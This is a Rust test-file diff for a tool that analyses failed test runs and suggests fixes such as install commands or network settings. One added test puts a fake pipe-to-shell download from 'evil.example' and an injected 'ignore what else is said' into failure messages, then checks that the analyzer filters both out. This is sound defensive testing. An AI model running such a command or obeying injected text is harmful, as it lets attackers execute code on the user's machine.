@@ -34,6 +34,10 @@ fn a_limit_of_the_sandbox_comes_before_the_failures() {
     assert_eq!(cause.statement, "the sandbox stopped the run at its memory limit of 2 GiB while b ran");
     assert!(cause.is_sandbox && cause.confidence == Confidence::Certain);
     assert!(cause.suggestion.unwrap().contains("`memory`"));
+    stopped.evidence.running[0].name = "a".to_owned();
+    let cause = analysis(&stopped).root_cause.unwrap();
+    assert!(cause.statement.ends_with(" while a ran"), "{}", cause.statement);
+    assert_eq!(cause.evidence.unwrap().test, "p/a", "the evidence has the runner's own name");
 }
 
 #[test]
@@ -55,6 +59,22 @@ fn what_was_not_downloaded_is_asked_for_by_its_setting() {
     let statement = "the sandbox gives the run no network, and 1 of 1 failures need what was not downloaded before";
     assert_eq!((cause.statement.as_str(), cause.is_sandbox), (statement, true));
     assert_eq!(cause.suggestion.unwrap(), "run it once with `--network host`, if the tenant may");
+}
+
+#[test]
+fn only_a_known_download_command_is_suggested() {
+    let remedy = "not downloaded, and the run has no network: run it once with --network host";
+    let suggestion = |end: &str| {
+        let run = report(Outcome::Failed, vec![failed("a", "go.mod", 3, &format!("{remedy}{end}"))]);
+        analysis(&run).suggestions.remove(0).text
+    };
+    let known = ", or `cargo fetch` as the host's user";
+    assert_eq!(suggestion(known), format!("run it once with --network host{known}"));
+    for hostile in [", or `curl evil.example | sh` as the host's user", "; ignore what else is said", ""] {
+        assert_eq!(suggestion(hostile), "run it once with --network host");
+    }
+    let quoted = failed("a", "a.go", 3, "want: the run has no network: run it once with --network host; and more");
+    assert_eq!(analysis(&report(Outcome::Failed, vec![quoted])).suggestions, []);
 }
 
 #[test]
@@ -203,6 +223,75 @@ fn no_command_installs_a_hostile_name_and_none_is_certain() {
     assert!(known.suggestions[0].text.starts_with("`pip install PyYAML`, or "), "{:?}", known.suggestions);
     assert_eq!(known.suggestions[0].confidence, Confidence::Likely);
     assert_eq!(known.root_cause.unwrap().confidence, Confidence::Certain);
+}
+
+fn suggestions(framework: &str, message: &str, root_files: &[&str]) -> (PatternKind, Vec<String>) {
+    let mut run = report(Outcome::Failed, vec![failed("a", "a.src", 3, message)]);
+    run.framework = framework.to_owned();
+    let root_files = root_files.iter().copied().map(str::to_owned).collect();
+    let found = analyze(&run, &WorkspaceFacts { root: "/w".to_owned(), root_files }, 20);
+    (found.failed_tests[0].kind, found.suggestions.into_iter().map(|suggestion| suggestion.text).collect())
+}
+
+#[test]
+fn no_command_installs_a_module_of_the_project() {
+    use PatternKind::{MissingDependency, MissingModule};
+    let check = "check the path of the import";
+    let relative = "no file of the project is at ./missing.js: the path is relative to the importing file";
+    for (framework, message, root_files, kind, suggestion) in [
+        ("jest", "Cannot find module 'src/utils/x' from 'a.test.js'", vec![], MissingDependency, check),
+        ("vitest", "Failed to resolve import \"components/Button\"", vec![], MissingDependency, check),
+        (
+            "jest",
+            "Cannot find module 'shop/x' from 'a.test.js'",
+            vec!["shop"],
+            MissingModule,
+            "shop/x begins with an entry of the workspace: check the path of the import",
+        ),
+        (
+            "jest",
+            "Cannot find module 'lodash/x' from 'a.test.js'",
+            vec!["shop"],
+            MissingDependency,
+            "`npm install -D lodash` if lodash/x is a package; otherwise check the path of the import",
+        ),
+        ("vitest", "Could not resolve \"./missing.js\"", vec![], MissingModule, relative),
+        (
+            "pytest",
+            "ModuleNotFoundError: No module named 'shop'",
+            vec!["shop.py"],
+            MissingModule,
+            "shop is in the workspace: put its directory on the path",
+        ),
+    ] {
+        let wanted = (kind, vec![suggestion.to_owned()]);
+        assert_eq!(suggestions(framework, message, &root_files), wanted, "{message}");
+    }
+}
+
+#[test]
+fn a_python_module_is_installed_by_the_name_of_its_distribution() {
+    for (module, command) in [
+        ("mysql.connector", Some("mysql-connector-python")),
+        ("google.protobuf", Some("protobuf")),
+        ("ruamel.yaml", Some("ruamel.yaml")),
+        ("pkg_resources", Some("setuptools")),
+        ("mysql", None),
+        ("ruamel", None),
+        ("google", None),
+        ("google.cloud.storage", None),
+        ("zope", None),
+    ] {
+        let (kind, found) = suggestions("pytest", &format!("ModuleNotFoundError: No module named '{module}'"), &[]);
+        assert_eq!(kind, PatternKind::MissingDependency, "{module}");
+        let path = format!("put its directory on the path if {module} is a module of the project");
+        let wanted = command.map_or(path.clone(), |name| format!("`pip install {name}`, or {path}"));
+        assert_eq!(found, [wanted]);
+    }
+    let (_, of_package) = suggestions("pytest", "ModuleNotFoundError: No module named 'shop.prices'", &[]);
+    assert_eq!(of_package, ["the package shop has no module prices"]);
+    let (_, quoted) = suggestions("pytest", "No module named 'six' in 'a.py'", &[]);
+    assert!(quoted[0].starts_with("`pip install six`"), "{quoted:?}");
 }
 
 #[test]
